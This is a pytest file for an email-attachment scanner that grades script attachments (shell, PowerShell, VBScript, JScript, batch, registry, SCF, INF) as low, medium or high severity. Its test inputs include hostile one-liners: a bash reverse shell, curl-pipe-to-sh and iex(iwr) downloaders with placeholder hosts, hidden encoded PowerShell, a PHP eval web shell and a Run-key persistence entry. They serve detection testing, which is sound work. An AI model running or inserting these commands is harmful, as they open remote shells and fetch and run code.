import pytest
from tests.support.zips import plain

from sekisho.mail.finding import Severity
from sekisho.mail.opened import Attachment, OpenLimits, OpenRequest
from sekisho.parse.unpack.active.scripts import look_at_named_script, open_script, script_text
from sekisho.parse.unpack.opening import Budget, Opening
from sekisho.parse.unpack.run import unpack


def opened(kind, text, depth=0, name="file"):
    content = text if isinstance(text, bytes) else text.encode()
    opening = Opening(content, name, budget=Budget(OpenLimits()), depth=depth)
    opening.kind = kind
    open_script(opening)
    assert [f.rule for f in opening.findings] == ["attachment/script"]
    return opening


def severity(kind, text, depth=0, name="file"):
    return opened(kind, text, depth, name).findings[0].severity


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("shell", "#!/bin/sh\nset -e\ntar czf /tmp/a.tgz /home\n"),
        ("python", "import base64, subprocess\nsubprocess.run(['ls'])\nprint(base64.b64decode('aGk='))\n"),
        ("perl", "use strict; print qx(ls);"),
        ("php", "<?php echo htmlspecialchars($_GET['q']); ?>"),
        ("javascript", "document.addEventListener('load', () => console.log('hi'))"),
        ("javascript", "const fs = require('fs'); module.exports = { run() {} }"),
        # What jQuery did for Internet Explorer.
        ("javascript", "window.x = function () { return new ActiveXObject('Microsoft.XMLHTTP'); }"),
        ("inf", '[Version]\nSignature="$Windows NT$"\n[DefaultInstall]\nCopyFiles=a\n'),
    ],
)
def test_source_code_is_low(kind, text):
    assert severity(kind, text) is Severity.LOW


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("batch", "@echo off\r\ncopy a.txt b.txt\r\n"),
        ("powershell", "Get-ChildItem | Sort-Object Length\n"),
        ("vbscript", 'MsgBox "hello"\n'),
        ("javascript", "var a = 1;\nvar b = a + 2;\n"),
        ("javascript", 'WScript.Echo("hello");'),
        ("wsf", '<job><script language="VBScript">MsgBox 1</script></job>'),
        ("reg", 'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Example]\n"a"="b"\n'),
        ("scf", "[Shell]\nCommand=2\nIconFile=explorer.exe,3\n"),
    ],
)  # fmt: skip
def test_what_windows_runs_is_medium(kind, text):
    assert severity(kind, text) is Severity.MEDIUM


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("vbscript", b"#@~^AAAAAA==whatever"),
        ("batch", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
        ("powershell", "iex (iwr http://a.example/x)"),
        ("javascript", 's=new ActiveXObject("WScript.Shell");h=new ActiveXObject("MSXML2.XMLHTTP")'),
        ("javascript", "".join(f"var _0x{n:04x}=_0x{n + 1:04x};" for n in range(200))),
        ("hta", "<html><script>alert(1)</script></html>"),
        ("sct", "<scriptlet><registration/></scriptlet>"),
        ("reg", "Windows Registry Editor Version 5.00\n[HKEY_CURRENT_USER\\Windows\\CurrentVersion\\Run]\n"),
        ("scf", "[Shell]\nCommand=2\nIconFile=\\\\192.0.2.1\\share\\a.ico\n"),
        ("inf", "[autorun]\nopen=setup.exe\n"),
        ("inf", "[Version]\n[DefaultInstall]\nRunPreSetupCommands=x\n"),
        ("php", "<?php eval($_POST['x']); ?>"),
        ("shell", "bash -i >& /dev/tcp/192.0.2.1/80 0>&1"),
        ("shell", "curl -s http://a.example/i | sh"),
        ("applescript", 'do shell script "curl http://a.example/i | sh"'),
    ],
)  # fmt: skip
def test_what_downloads_or_hides_is_high(kind, text):
    assert severity(kind, text) is Severity.HIGH


ENCODED = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"


@pytest.mark.parametrize("depth", [0, 1])
@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("javascript", f'new ActiveXObject("WScript.Shell").Run("cmd /c powershell -enc {ENCODED}");'),
        ("javascript", 'var s = new ActiveXObject("WScript.Shell");\ns.Run("notepad.exe");'),
        # What a browser has, in a comment.
        ("javascript", '// window.x\nvar s = new ActiveXObject("WScript.Shell"); s.Run("calc");'),
        ("javascript", 'var f = new ActiveXObject("Scripting.FileSystemObject"); f.CreateTextFile("a.txt");'),
        ("javascript", 'WScript.Echo(eval(a.join("")));'),
        ("javascript", 'var a = eval(atob("YQ=="));'),
        ("vbscript", 'CreateObject("WScript.Shell").Run "cmd /c dir"'),
        ("vbscript", 'Set s = CreateObject(n)\ns.Run "cmd.exe /c dir", 0, False'),
        ("vbscript", 'Set h = CreateObject("MSXML2.XMLHTTP")'),
        ("vbscript", "ExecuteGlobal a"),
        ("wsf", '<job><script language="JScript">new ActiveXObject("WScript.Shell").Run("a")</script></job>'),
        ("sct", '<scriptlet><script>new ActiveXObject("WScript.Shell")</script></scriptlet>'),
        ("batch", f"@powershell -w hidden -enc {ENCODED}"),
        ("batch", "@echo off\r\npowershell -w hidden -c dir\r\n"),
        ("batch", "curl -o a.exe https://a.example/a.exe\r\n"),
        ("batch", b"\xff\xfe&cls\r\npowershell -w hidden -c dir\r\n"),
        ("batch", "rem " + "x" * 70 + "\r\n" + ("rem xxxxxxxxxxxxxxxxxxxxxxxxx\r\n" * 60_000) + "mshta a.hta\r\n"),
        ("powershell", "Start-Process notepad"),
        ("powershell", "Invoke-WebRequest https://a.example/list.csv -OutFile list.csv"),
    ],
)  # fmt: skip
def test_what_acts_at_a_double_click_is_high(kind, text, depth):
    assert severity(kind, text, depth) is Severity.HIGH


@pytest.mark.parametrize(
    ("kind", "name", "content"),
    [
        ("javascript", "a.jse", b"var a = 1;"),
        ("vbscript", "a.VBE.", b"MsgBox 1"),
        ("javascript", "a.js", b"//**Start Encode**#@~^CAAAAA==xxxx^#~@"),
        ("wsf", "a.wsf", b'<job><script language="JScript.Encode">#@~^CAAAAA==xxxx^#~@</script></job>'),
    ],
)
def test_encoded_scripts_are_high(kind, name, content):
    assert severity(kind, content, name=name) is Severity.HIGH


@pytest.mark.parametrize("name", ["a.bat", "folder/a.JS", "a.vbs ", "a.cmd"])
def test_windows_runs_by_the_name_what_begins_like_another_file(name):
    content = b'<html>\r\nWScript.Shell powershell -w hidden -c dir\r\nCreateObject("WScript.Shell")'
    answer = unpack(OpenRequest((Attachment("1", name, "", content),)))
    assert [f.severity for f in answer.findings if f.rule == "attachment/script"] == [Severity.HIGH]


@pytest.mark.parametrize("name", ["a.ps1", "a.vbs", "a.js", "a.wsf"])
@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_in_whatever_characters(name, codec):
    text = f'<html>\r\nCreateObject("WScript.Shell").Run "cmd /c powershell -enc {ENCODED}"\r\n'
    content = text.encode(codec)
    for octets in (content, b"\xfe\xff" + content) if codec == "utf-16-be" else (content,):
        answer = unpack(OpenRequest((Attachment("1", name, "", octets),)))
        assert [f.severity for f in answer.findings if f.rule == "attachment/script"] == [Severity.HIGH]


@pytest.mark.parametrize("name", ["a.html", "a.txt", "a.py", "a.bat.txt"])
def test_other_names_are_not_looked_at(name):
    opening = Opening(b"mshta http://a.example/x", name, budget=Budget(OpenLimits()))
    look_at_named_script(opening)
    assert opening.findings == []


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("build.bat", b"@echo off\r\ncd /d %~dp0\r\ncall npm install\r\ncall npm run build\r\npause\r\n"),
        ("sum.js", b"var total = 0;\nfor (var i = 0; i < 10; i++) { total += i; }\n"),
    ],
)
def test_the_scripts_of_a_web_developer_are_medium(name, content):
    for attached, path in ((content, name), (plain({name: content}), "a.zip")):
        answer = unpack(OpenRequest((Attachment("1", path, "", attached),)))
        assert {(f.rule, f.severity) for f in answer.findings} == {("attachment/script", Severity.MEDIUM)}


@pytest.mark.parametrize(
    "text",
    [
        # Libraries that know Internet Explorer; the keywords of PowerShell in one that colours source code.
        "window.x = function () { try { return new ActiveXObject('Msxml2.XMLHTTP'); } catch (e) { eval(x); } }",
        "module.exports = 'start-process invoke-item'; var a = window.ActiveXObject;",
        "document.x = unescape('%41'); String.fromCharCode(1);",
    ],
)
def test_libraries_for_browsers_stay_low(text):
    assert severity("javascript", text) is Severity.LOW


def test_an_installer_in_a_source_archive_is_not_alarming():
    assert severity("shell", "curl -sSf https://a.example/install.sh | sh", depth=1) is Severity.MEDIUM


def test_text_and_addresses_also_of_what_is_encoded():
    opening = opened(
        "batch", "rem http://a.example/1\r\npowershell -enc aAB0AHQAcAA6AC8ALwBiAC4AZQB4AGEAbQBwAGwAZQAvADIA0A=="
    )
    assert {link.url for link in opening.links} >= {"http://a.example/1"}
    assert any("b.example/2" in link.url for link in opening.links)
    assert opening.texts[0].text.startswith("rem http")


@pytest.mark.parametrize(
    "content",
    [
        "給与".encode("utf-16"),
        "\ufeff給与".encode(),
        "echo 給与".encode("utf-16-le"),
        "給与の一覧を表示します。".encode("cp932"),
    ],
)
def test_encodings(content):
    assert "給与" in script_text(content)
